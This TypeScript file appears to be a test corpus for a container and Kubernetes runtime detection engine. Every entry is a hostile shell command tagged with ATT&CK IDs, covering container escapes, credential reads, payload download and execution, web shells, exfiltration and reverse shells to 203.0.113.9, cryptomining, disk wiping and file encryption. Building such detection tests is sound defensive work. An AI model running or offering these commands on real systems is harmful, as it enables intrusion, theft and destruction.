/** Steps of somebody who has a shell or kubectl exec, written down before the rules were read. What is routine by its exec alone is left out. */
import type { Attack } from './attacks.ts';
import { attackLines } from './lines.ts';

/** Entry, techniques, command. */
export const HANDS_ON_ATTACKS: readonly Attack[] = attackLines(String.raw`
exec | T1611 | mkdir /newroot; mount -o bind /rootfs /newroot; chroot /newroot /bin/sh -c 'cat /etc/kubernetes/admin.conf'
exec | T1552.001 T1611 | cat /host/var/lib/kubelet/kubeconfig
exec | T1552.004 | cat /etc/kubernetes/pki/apiserver-etcd-client.key
exec | T1611 | find / -name docker.sock 2>/dev/null; curl -s --unix-socket /run/docker.sock http://x/containers/json
web | T1611 | python3 -c "import docker;c=docker.from_env();c.containers.run('alpine','chroot /h sh',volumes={'/':{'bind':'/h'}},privileged=True)"
exec | T1611 | nerdctl -n k8s.io --address /host/run/containerd/containerd.sock run --privileged -v /:/h alpine chroot /h
exec | T1611 T1068 | capsh --print; ./cap_dac_read_search_shocker /etc/shadow
exec | T1611 | echo $$ > /sys/fs/cgroup/memory/x/cgroup.procs; sh -c 'echo "/cmd" > /tmp/cgrp/release_agent'
exec | T1574.006 | echo /tmp/evil.so > /etc/ld.so.preload
exec | T1574.006 | LD_PRELOAD=/tmp/hook.so /usr/sbin/nginx -t
exec | T1547.006 | modprobe -f diamorphine; lsmod | grep diamorphine
web | T1070.003 T1562.003 | unset HISTFILE; export HISTSIZE=0; rm -rf ~/.bash_history; wget -qO /tmp/.a http://203.0.113.9/a; sh /tmp/.a
web | T1105 | cd /tmp || cd /var/run || cd /dev/shm; wget http://203.0.113.9/bins/mirai.x86; chmod 777 *; ./mirai.x86 telnet
web | T1105 | curl http://203.0.113.9/kinsing -o /var/tmp/kinsing; chmod +x /var/tmp/kinsing; /var/tmp/kinsing
web | T1105 | tftp -g -r x.sh 203.0.113.9; sh x.sh
web | T1105 | lwp-download http://203.0.113.9/x.pl /tmp/x.pl; perl /tmp/x.pl
web | T1105 | python -c "import urllib2;exec(urllib2.urlopen('http://203.0.113.9/p').read())"
web | T1059.004 T1105 | bash -c "$(curl -fsSL http://203.0.113.9/i.sh)"
exec | T1105 T1059.004 | curl -s http://203.0.113.9/i.sh > /tmp/i.sh && bash /tmp/i.sh
web | T1053.003 | echo '* * * * * /tmp/.x/upd >/dev/null 2>&1' > /tmp/c; crontab /tmp/c; rm /tmp/c
exec | T1053.002 | echo "/tmp/x" | at now + 1 minute
exec | T1543.002 | cat > /etc/systemd/system/x.service; systemctl daemon-reload; systemctl enable x
exec | T1037.004 | echo '/tmp/x &' >> /etc/rc.local; chmod +x /etc/rc.local
exec | T1546.004 | echo 'nohup /tmp/.x &' >> /root/.bashrc
exec | T1505.003 | cp /tmp/s.php /var/www/html/uploads/s.php
web | T1505.003 | printf '<?php system($_GET[0]); ?>' | tee /var/www/html/x.php
exec | T1098 T1136.001 | adduser -D -u 0 -o backdoor; echo backdoor:x | chpasswd; usermod -aG sudo backdoor
exec | T1531 | passwd -l root; userdel -f admin
web | T1552.001 | grep -rniE 'password|secret|api_key' /app /etc --include=*.conf --include=*.yml
web | T1552.001 | cat /app/.env; cat /var/www/html/wp-config.php
web | T1552.001 | cat /root/.netrc /root/.npmrc /root/.pypirc /root/.git-credentials
web | T1552.003 | cat /root/.bash_history /home/app/.mysql_history
exec | T1552.001 T1560.001 | tar czf /tmp/c.tgz /root/.aws /root/.kube /root/.docker /root/.config/gcloud
web | T1528 | JWT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sk https://10.96.0.1/api/v1/namespaces/default/pods -H "Authorization: Bearer $JWT"; curl -sk https://10.96.0.1/api/v1/namespaces/default/pods -H "Authorization: Bearer eyJhbG"
exec | T1609 | curl -k -H "Authorization: Bearer eyJhbG" -X POST "https://10.96.0.1/api/v1/namespaces/prod/pods/db-0/exec?command=id&stdout=true"
exec | T1610 T1611 | curl -k -H "Authorization: Bearer eyJhbG" -H "Content-Type: application/json" -X POST https://10.96.0.1/api/v1/namespaces/default/pods -d '{"spec":{"containers":[{"name":"a","image":"alpine","securityContext":{"privileged":true}}]}}'
exec | T1552.007 | etcdctl --endpoints=https://10.0.0.1:2379 get /registry/secrets --prefix --keys-only
web | T1087 T1087.004 T1580 | aws sts get-caller-identity; aws s3 ls; aws iam list-users
web | T1021.004 | sshpass -p toor ssh -o StrictHostKeyChecking=no root@10.0.0.8 id
exec | T1021.004 T1570 | scp -o StrictHostKeyChecking=no /tmp/x root@10.0.0.8:/tmp/x
web | T1210 | redis-cli -h 10.0.0.8 slaveof 203.0.113.9 6379; redis-cli -h 10.0.0.8 module load /tmp/exp.so
web | T1570 T1021 T1609 | kubectl cp /tmp/x prod/db-0:/tmp/x; kubectl exec -n prod db-0 -- /tmp/x
web | T1046 | for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i | grep ttl; done
web | T1018 T1046 | arp -an; cat /proc/net/arp; fping -a -g 10.0.0.0/24
web | T1046 | python3 -c "import socket;[print(p) for p in range(1,1024) if socket.socket().connect_ex(('10.0.0.1',p))==0]"
exec | T1046 T1018 | dig axfr cluster.local @10.96.0.10; dig +short srv any.any.svc.cluster.local
exec | T1557 T1040 | arpspoof -i eth0 -t 10.0.0.4 10.0.0.1
web | T1572 | ssh -o StrictHostKeyChecking=no -i /tmp/k -D 1080 -N u@203.0.113.9
web | T1572 T1090 | /tmp/ligolo-agent -connect 203.0.113.9:11601 -ignore-cert
web | T1219 | /tmp/teleport start; tmate -S /tmp/t.sock new-session -d
web | T1102 | while true; do c=$(curl -s https://pastebin.com/raw/abc); sh -c "$c"; sleep 60; done
web | T1095 | nping --icmp -c 1 --data-string secret 203.0.113.9; hping3 --icmp -d 100 -E /etc/passwd 203.0.113.9
exec | T1048 | ftp -n 203.0.113.9; curl -T /etc/passwd ftp://203.0.113.9/ --user a:b
exec | T1048 T1041 | cat /var/lib/mysql/app/users.ibd | curl -s --data-binary @- https://203.0.113.9/up -k
exec | T1048 | socat -u FILE:/tmp/loot.tgz TCP:203.0.113.9:9000
exec | T1048 T1041 | busybox nc 203.0.113.9 9000 < /etc/passwd
exec | T1048 T1041 | cat /etc/passwd > /dev/tcp/203.0.113.9/9000
web | T1020 T1041 T1048 | tar cz /app | base64 | curl -X POST -d @- http://203.0.113.9/
exec | T1567.001 T1567 | git push https://x:ghp_abc@github.com/evil/loot.git main
web | T1560.001 T1074.001 | zip -r -P secret /tmp/.z.zip /app/data; 7z a -psecret /dev/shm/a.7z /app
exec | T1119 T1005 T1560.001 | find / -name "*.sql" -o -name "*.kdbx" 2>/dev/null | tar czf /dev/shm/.s.tgz -T -
web | T1496 | wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz; tar xzf xmrig-6.21.0-linux-static-x64.tar.gz; ./xmrig-6.21.0/xmrig -c config.json
exec | T1496 | /tmp/kworkerds -o pool.hashvault.pro:443 -u 4AB -p x -k --coin monero
exec | T1489 | systemctl stop mysql; pkill -9 postgres
exec | T1485 T1561 | shred -n 1 -z /dev/vda
exec | T1485 | mongo --eval "db.dropDatabase()"; redis-cli flushall
exec | T1490 | rm -rf /backup/*; find / -name "*.bak" -delete
exec | T1486 | for f in $(find /data -type f); do gpg --batch -c --passphrase x $f && rm -f $f; done
exec | T1529 | reboot -f; echo b > /proc/sysrq-trigger
exec | T1498 T1499 | hping3 -S --flood -p 80 203.0.113.9
exec | T1485 T1489 | kubectl delete ns prod --force --grace-period=0; kubectl delete deploy --all -A
exec | T1222.002 | chmod 777 /etc/passwd; chmod -R 777 /etc
exec | T1562.004 | iptables -F; iptables -P INPUT ACCEPT; nft flush ruleset
exec | T1562.001 | pkill -9 tetragon; kill -9 $(pidof falco); umount /sys/fs/bpf
exec | T1036.003 T1036 | cp /usr/bin/curl /tmp/kworker; /tmp/kworker -s http://203.0.113.9/x -o /tmp/y
exec | T1564.001 | mkdir -p "/tmp/. "; mv /tmp/x "/tmp/. /sshd"; "/tmp/. /sshd"
exec | T1014 T1564 | mount -o bind /tmp/empty /proc/1234
exec | T1027.004 T1068 | gcc /tmp/exp.c -o /tmp/exp && /tmp/exp
exec | T1548.003 | sudo -u#-1 /bin/bash; sudo -l
exec | T1548.001 | python3 -c 'import os;os.setuid(0);os.system("/bin/sh")'
web | T1059.004 | script -qc /bin/bash /dev/null
web | T1059.007 | node -e 'require("child_process").exec("bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"")'
web | T1059.006 | perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
web | T1059.004 | lua -e "require('socket');require('os');t=socket.tcp();t:connect('203.0.113.9','4444');os.execute('sh -i <&3 >&3 2>&3');"
exec | T1059.004 | awk 'BEGIN{s="/inet/tcp/0/203.0.113.9/4444";while(1){s|&getline c;while((c|getline)>0)print|&s}}'
`);
